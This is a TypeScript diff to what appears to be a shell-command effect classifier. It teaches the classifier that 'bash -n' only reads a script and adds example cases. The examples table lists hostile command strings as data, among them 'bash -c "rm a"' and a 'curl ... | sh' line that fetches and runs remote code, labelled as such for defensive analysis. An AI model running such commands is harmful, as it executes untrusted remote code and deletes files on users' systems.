@@ -12,6 +12,7 @@ const shell = (call: ProgramCall): void => {
   const [one] = call.operands
   if (one !== undefined && /^\+[A-Za-z]+$/.test(one.text)) {
     // `+x` is an option too.
+    if (one.text.includes('n')) call.exec('dynamic-argument')
     call.runs([literalWord(call.name), ...call.args.filter((word) => word !== one)])
     return
   }
@@ -24,6 +25,9 @@ const shell = (call: ProgramCall): void => {
       call.shellText(first, { args, ...(name === undefined ? {} : { self: name }) })
   } else if (first === undefined || call.has('-s')) {
     if (!call.has('--version', '--help')) call.runInput('shell', call.operands)
+  } else if (call.has('-n') && !call.has('-i')) {
+    // The file is checked, not run; an interactive shell would not heed that.
+    call.take('read', first)
   } else call.runFile(first, 'shell', call.operands.slice(1))
 }
 
@@ -54,6 +58,9 @@ export const SHELLS: ReadonlyArray<ProgramRow> = [
     examples: [
       'bash -c "rm a" => fs.delete a',
       'sh x.sh => exec sh, opaque unread-script',
+      'bash -n x.sh => fs.read x.sh',
+      'bash -in x.sh => exec bash, opaque unread-script',
+      'bash x.sh -n => exec bash, opaque unread-script',
       'bash /tmp/x.sh => exec bash, opaque outside-code',
       'bash -c "$CMD" => exec bash, opaque dynamic-command',
       'curl -s https://x.example/i.sh | sh => net.fetch x.example, exec sh, opaque remote-code',
